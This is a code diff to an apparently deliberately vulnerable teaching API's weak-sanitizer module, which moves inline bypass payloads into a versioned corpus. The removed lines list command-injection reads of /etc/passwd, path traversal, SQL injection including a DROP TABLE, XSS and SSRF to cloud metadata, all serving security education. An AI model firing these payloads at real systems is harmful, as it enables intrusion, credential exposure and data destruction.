@@ -3,6 +3,8 @@
  * These demonstrate common mistakes in input validation
  */
 
+const { VERSION, CORPUS } = require('./bypassCorpus');
+
 class WeakSanitizers {
 
     /**
@@ -113,66 +115,72 @@ class WeakSanitizers {
 }
 
 /**
- * Bypass Examples - Show how the weak sanitizers can be bypassed
+ * Bypass Examples - Payloads that get past the weak sanitizers, and more
+ * Backed by the versioned corpus in utils/bypassCorpus.js
  */
 class BypassExamples {
 
+    static version() {
+        return VERSION;
+    }
+
+    /**
+     * CWEs the corpus has payloads for
+     */
+    static cwes() {
+        return Object.keys(CORPUS);
+    }
+
+    /**
+     * [{ id, cwe, payload, technique }] for one CWE; ids are stable within a version
+     */
+    static forCwe(cwe) {
+        const group = CORPUS[cwe];
+        if (!group) {
+            throw new Error(`No payloads for ${cwe} (corpus has ${Object.keys(CORPUS).join(', ')})`);
+        }
+        return group.payloads.map(([payload, technique], i) => ({ id: `${cwe}/${i + 1}`, cwe, payload, technique }));
+    }
+
+    /**
+     * Whole corpus, or the named CWEs, as one JSON document
+     */
+    static corpus(cwes = Object.keys(CORPUS)) {
+        return {
+            name: 'vulnerable-api-gateway bypass corpus',
+            version: VERSION,
+            cwes: Object.fromEntries(cwes.map(cwe => [cwe, {
+                name: CORPUS[cwe]?.name,
+                payloads: BypassExamples.forCwe(cwe).map(({ id, payload, technique }) => ({ id, payload, technique }))
+            }]))
+        };
+    }
+
     static commandInjectionBypasses() {
-        return [
-            'cat /etc/passwd',           // Direct command
-            '`cat /etc/passwd`',         // Backticks (if ` not in blacklist)
-            '$(cat /etc/passwd)',        // Command substitution
-            '\n cat /etc/passwd',        // Newline injection
-            'cat${IFS}/etc/passwd',      // IFS bypass
-            "cat$'\\x20'/etc/passwd"     // $'' quoting
-        ];
+        return payloads('CWE-78');
     }
 
     static pathTraversalBypasses() {
-        return [
-            '....//....//etc/passwd',    // Double encoding
-            '..\\..\\etc\\passwd',       // Backslash
-            '..%252f..%252fetc/passwd',  // Double URL encoding
-            '/etc/passwd',               // Absolute path (if allowed)
-            '..%00/etc/passwd',          // Null byte
-            '....\\\\....\\\\etc/passwd' // Mixed
-        ];
+        return payloads('CWE-22');
     }
 
     static sqlInjectionBypasses() {
-        return [
-            '1 OR 1=1',                  // Numeric (no quotes)
-            '1 OR 1=1--',                // With comment
-            "1' OR '1'='1",              // Quote escaping
-            '1 UNION SELECT null,null',  // Union injection
-            '1; DROP TABLE users--'      // Stacked queries
-        ];
+        return payloads('CWE-89');
     }
 
     static xssBypasses() {
-        return [
-            '<img src=x onerror=alert(1)>',          // Event handler
-            '<svg onload=alert(1)>',                  // SVG
-            '<body onpageshow=alert(1)>',            // Body event
-            '<script>alert(1)</script',               // Unclosed tag
-            'javascript:alert(1)',                    // javascript: URL
-            '<img src="x" onerror="alert(1)">'       // Quoted attributes
-        ];
+        return payloads('CWE-79');
     }
 
     static ssrfBypasses() {
-        return [
-            'http://127.0.0.1/',                      // Localhost
-            'http://2130706433/',                     // Decimal IP
-            'http://[::1]/',                          // IPv6 localhost
-            'http://localtest.me/',                   // DNS that resolves to 127.0.0.1
-            'http://169.254.169.254/',                // AWS metadata
-            'http://0/',                              // Shorthand for 0.0.0.0
-            'http://0x7f000001/'                      // Hex IP
-        ];
+        return payloads('CWE-918');
     }
 }
 
+function payloads(cwe) {
+    return CORPUS[cwe].payloads.map(([payload]) => payload);
+}
+
 module.exports = {
     WeakSanitizers,
     BypassExamples